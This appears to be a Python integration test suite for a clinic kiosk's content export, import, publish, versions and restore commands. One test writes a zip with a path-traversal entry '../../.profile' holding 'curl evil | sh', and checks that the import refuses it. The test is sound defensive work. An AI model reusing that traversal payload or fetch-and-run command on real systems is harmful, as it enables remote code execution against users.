"""`kiosk content export|import|publish|versions|restore` as clinic IT would run them."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

from tests.integration.running import kiosk
from tools.draw_slide_pictures import DRAWINGS


def _versions(home: Path, db: str) -> list[dict[str, object]]:
    out = kiosk("content", "versions", "--json", "--database", db, home=home, check=True).stdout
    return [json.loads(line) for line in out.splitlines()]


def _reword(pack: Path) -> None:
    questions = pack / "questions.yaml"
    questions.write_text(
        questions.read_text().replace("Are you pregnant, or could you be", "Could you be")
    )


def test_export_edit_import_publish_and_restore(home: Path, db: str) -> None:
    (first,) = _versions(home, db)  # a new database starts on the bundled content
    assert (first["number"], first["in_use"], first["label"]) == (
        1,
        True,
        "bundled default content",
    )

    exported = kiosk("content", "export", str(home / "pack"), "--database", db, home=home)
    assert exported.returncode == 0, exported.stderr
    assert f"Exported the content in use (version {str(first['version'])[:12]})" in exported.stdout
    _reword(home / "pack")

    imported = kiosk("content", "import", str(home / "pack"), "--database", db, home=home)
    assert imported.returncode == 0, imported.stderr
    assert "Imported" in imported.stdout
    assert "kiosk content publish" in imported.stdout
    assert [v["number"] for v in _versions(home, db)] == [1]  # a draft is not published
    listing = kiosk("content", "versions", "--database", db, home=home, check=True).stdout
    assert "not published" in listing.splitlines()[-1]

    published = kiosk(
        "content", "publish", "--label", "pregnancy wording", "--database", db, home=home
    )
    assert published.returncode == 0, published.stderr
    assert "kiosks take it at their next visit" in published.stdout
    second, _ = _versions(home, db)
    assert (second["number"], second["label"], second["in_use"]) == (
        2,
        "pregnancy wording",
        True,
    )
    assert str(second["published_by"]).startswith("cli:")
    check = kiosk("content", "check", "--database", db, home=home, check=True).stdout
    assert f"version {str(second['version'])[:12]} (pregnancy wording)" in check

    restored = kiosk(
        "content", "restore", "1", "--label", "back to the original", "--database", db, home=home
    )
    assert restored.returncode == 0, restored.stderr
    third = _versions(home, db)[0]
    assert (third["number"], third["version"], third["restored_from"], third["in_use"]) == (
        3,
        first["version"],
        1,
        True,
    )
    audit = kiosk("audit", "--json", "--database", db, home=home, check=True).stdout
    actions = [json.loads(line)["action"] for line in audit.splitlines()]
    for action in (
        "content_exported",
        "content_imported",
        "content_published",
        "content_restored",
        "content_versions_listed",
    ):
        assert action in actions
    assert all(json.loads(line)["actor"].startswith("cli:") for line in audit.splitlines())


def test_import_a_zip_and_publish_it_at_once(home: Path, db: str) -> None:
    kiosk("content", "export", str(home / "pack"), "--database", db, home=home, check=True)
    _reword(home / "pack")
    with zipfile.ZipFile(home / "pack.zip", "w") as archive:
        for path in sorted((home / "pack").rglob("*")):
            archive.write(path, path.relative_to(home / "pack").as_posix())
    check = kiosk("content", "check", str(home / "pack.zip"), home=home, check=True).stdout
    assert "pack.zip: valid — 11 slides, 24 questions (4 teach-back)" in check
    result = kiosk(
        "content",
        "import",
        str(home / "pack.zip"),
        "--publish",
        "--label",
        "from the clinic office",
        "--database",
        db,
        home=home,
    )
    assert result.returncode == 0, result.stderr
    assert "Published version" in result.stdout
    newest = _versions(home, db)[0]
    assert (newest["label"], newest["in_use"]) == ("from the clinic office", True)
    kiosk("content", "export", str(home / "again.zip"), "--database", db, home=home, check=True)
    names = zipfile.ZipFile(home / "again.zip").namelist()
    assert sorted(names) == sorted(
        [
            "consent.yaml",
            # The PHQ-9 and GAD-7 (off), as shipped.
            "measures.yaml",
            "pack.yaml",
            "questions.yaml",
            "slides.yaml",
            "translations/es.yaml",
            # The bundled slides' pictures travel with the pack.
            *(f"pictures/{slide}.png" for slide in DRAWINGS),
        ]
    )


def test_a_hostile_zip_is_refused_and_nothing_changes(home: Path, db: str) -> None:
    kiosk("demo-data", "--visits", "3", "--database", db, home=home, check=True)
    before = kiosk("visits", "--json", "--database", db, home=home, check=True).stdout
    with zipfile.ZipFile(home / "evil.zip", "w") as archive:
        archive.writestr("pack.yaml", "clinic_name: Evil\n")
        archive.writestr("../../.profile", "curl evil | sh\n")
    result = kiosk(
        "content", "import", str(home / "evil.zip"), "--publish", "--database", db, home=home
    )
    assert result.returncode == 1
    assert "evil.zip:1: the entry '../../.profile' points outside the pack" in result.stderr
    assert "nothing was imported and the content in use is unchanged" in result.stderr
    assert "Traceback" not in result.stderr
    assert not (home.parent / ".profile").exists()
    # demo-data published its own content (the measures on): still the one in use.
    newest = _versions(home, db)[0]
    assert newest["in_use"]
    assert newest["visits"] == 3
    assert kiosk("visits", "--json", "--database", db, home=home).stdout == before


def test_publishing_without_a_draft_or_restoring_nothing_is_one_plain_line(
    home: Path, db: str
) -> None:
    nothing = kiosk("content", "publish", "--database", db, home=home)
    assert nothing.returncode == 1
    assert nothing.stderr == ("kiosk: there is no draft to publish; import or edit content first\n")
    missing = kiosk("content", "restore", "7", "--label", "x", "--database", db, home=home)
    assert missing.returncode == 1
    assert missing.stderr == "kiosk: there is no published version number 7\n"
    occupied = home / "occupied"
    occupied.mkdir()
    (occupied / "mine.txt").write_text("keep me")
    taken = kiosk("content", "export", str(occupied), "--database", db, home=home)
    assert taken.returncode == 1
    assert "already exists and is not an empty folder" in taken.stderr
